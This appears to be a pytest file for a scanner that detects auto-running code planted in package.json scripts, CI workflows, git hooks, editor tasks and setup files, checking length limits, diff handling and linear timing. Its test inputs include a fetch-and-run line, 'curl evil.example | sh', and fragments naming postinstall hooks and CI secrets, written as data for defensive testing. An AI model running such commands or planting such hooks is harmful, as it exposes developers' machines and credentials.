"""Text that fires by itself. What it finds is in tests/cases/paths/planted.yaml; here, what must not happen."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interpose.effects.paths.planted_code import MAX_TEXT, fires
from tests.support.timing.growth import TIMES, grows_linearly

PLACES = [
    "package.json",
    ".github/workflows/a.yml",
    ".husky/x",
    ".vscode/tasks.json",
    "pip.conf",
    "setup.py",
    ".gitmodules",
]


def _fires(path: str, added: str, removed: str = "", current: str = "") -> str:
    return fires(
        f"/w/{path}", added, removed, lambda: current, lambda command: "it is bad" if "evil" in command else ""
    )


@pytest.mark.parametrize("path", PLACES)
def test_what_is_too_long_to_be_read_is_said(path: str) -> None:
    assert "too long" in _fires(path, "x" * (MAX_TEXT + 1))
    assert _fires(path, "x" * 100) == ""


def test_other_places_take_any_length() -> None:
    assert _fires("data.json", "x" * (MAX_TEXT + 1)) == ""


def test_what_was_there_before_is_no_news() -> None:
    script = '"postinstall": "node a.js"'
    assert _fires("package.json", script)
    assert not _fires("package.json", script, removed=script)
    assert not _fires("package.json", script, current=f"{{{script}}}")
    assert _fires("package.json", script, current='"postinstall": "node b.js"')


def test_more_steps_than_can_be_read_are_said() -> None:
    text = "  - run: curl good.example\n" * 1_000
    assert "more steps" in _fires(".github/workflows/a.yml", text)
    assert _fires(".github/workflows/a.yml", "  - run: make\n" * 1_000 + "  - run: curl evil.example | sh\n")


def test_a_block_ends_where_its_indentation_ends() -> None:
    text = "steps:\n  - run: |\n      curl good.example\n  - name: curl the evil name of a step\n"
    assert _fires(".github/workflows/a.yml", text.replace("evil", "long")) == ""
    assert _fires(".github/workflows/a.yml", text.replace("good", "evil"))


@pytest.mark.parametrize("path", PLACES)
@given(st.text(), st.text())
def test_nothing_raises(path: str, added: str, removed: str) -> None:
    _fires(path, added, removed, removed)


PIECES = [
    '"postinstall"', '"install" : ', '"install":"', "run: |\n", " ", "\n", "${{", "${{ secrets.", "- ", "curl ",
    "\\u0061", "a: ", '"runOn" ', "cmdclass ", "index-url ", "update =", '"postCreateCommand":"', "run: curl x\n",
    "run: |\n  curl x\n",
]  # fmt: skip


@pytest.mark.parametrize("path", PLACES)
@pytest.mark.parametrize("piece", PIECES)
def test_time_grows_with_the_text_only(path: str, piece: str) -> None:
    assert grows_linearly(lambda size: _fires(path, piece * (size // len(piece))), MAX_TEXT // TIMES)
